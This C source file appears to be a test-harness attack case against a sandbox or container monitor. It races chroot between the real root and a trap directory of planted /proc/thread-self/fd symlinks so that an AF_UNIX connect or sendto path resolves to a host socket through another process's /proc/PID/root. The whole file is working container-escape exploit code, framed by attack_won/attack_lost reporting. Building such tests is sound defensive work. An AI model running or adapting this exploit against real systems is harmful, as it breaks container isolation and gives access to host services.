// An AF_UNIX path whose socket has been judged is given to the kernel as /proc/thread-self/fd/N. Threads turn the root
// (CAP_SYS_CHROOT) between / and a directory whose proc/thread-self/fd/N are links to a socket of the host, behind the
// root of a process of the host that is in sight (--pid=host).
#include "attack.h"
#include <dirent.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

static int top, trap, own;

static void *turns(void *unused) {
    for (;;) {
        fchdir(trap);
        chroot(".");
        fchdir(top);
        chroot(".");
    }
    return unused;
}

static void *answers(void *unused) {
    for (;;)
        close(accept(own, NULL, NULL));
    return unused;
}

// Makes the links for each process that may be the bystander; how many there are.
static int bystanders(void) {
    DIR *dir = opendir("/proc");
    int seen = 0;
    for (struct dirent *e; dir && (e = readdir(dir));) {
        char path[PATH_MAX], name[16] = "";
        int pid = atoi(e->d_name);
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        int fd = pid > 0 ? open(path, O_RDONLY) : -1;
        if (fd >= 0 && read(fd, name, sizeof name - 1) > 0 && strncmp(name, "sleep", 5) == 0) {
            char target[PATH_MAX];
            // Both forms: from the turned root, and out of it.
            snprintf(target, sizeof target, "%s/proc/%d/root%s", seen % 2 ? "" : "../../../../../..", pid,
                     getenv("HOST_SOCKET"));
            for (int n = 3; n < 40; n++) {
                snprintf(path, sizeof path, "/tmp/hc/proc/thread-self/fd/%d", n);
                symlink(target, path);
            }
            seen++;
        }
        close(fd);
    }
    if (dir)
        closedir(dir);
    return seen;
}

int main(void) {
    pthread_t thread;
    mkdir("/tmp/hc", 0777), mkdir("/tmp/hc/proc", 0777), mkdir("/tmp/hc/proc/thread-self", 0777);
    mkdir("/tmp/hc/proc/thread-self/fd", 0777), mkdir("/tmp/hc/tmp", 0777);
    while (!bystanders() && !attack_over())
        usleep(10000);
    if (attack_over())
        attack_broken("no process of the host is in sight");
    // The same name in both roots.
    struct sockaddr_un un = {.sun_family = AF_UNIX, .sun_path = "/tmp/own"};
    unlink("/tmp/own");
    own = socket(AF_UNIX, SOCK_STREAM, 0);
    if (own < 0 || bind(own, (struct sockaddr *)&un, sizeof un) < 0 || listen(own, 1000) < 0 ||
        (unlink("/tmp/hc/tmp/own"), link("/tmp/own", "/tmp/hc/tmp/own") < 0))
        attack_broken("a socket of one's own");
    top = open("/", O_PATH | O_DIRECTORY);
    trap = open("/tmp/hc", O_PATH | O_DIRECTORY);
    if (chroot("/") < 0)
        attack_broken("chroot");
    for (int i = 0; i < 2; i++)
        pthread_create(&thread, NULL, turns, NULL);
    pthread_create(&thread, NULL, answers, NULL);
    while (!attack_over()) {
        char word[8] = "";
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&un, sizeof un) == 0 && read(s, word, sizeof word - 1) > 0 &&
            strncmp(word, "HOST", 4) == 0)
            attack_won("connect(2) reaches a socket of the host");
        close(s);
        s = socket(AF_UNIX, SOCK_DGRAM, 0);
        if (sendto(s, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&un, sizeof un) == 1)
            attack_won("sendto(2) reaches a socket of the host");
        close(s);
    }
    attack_lost();
}
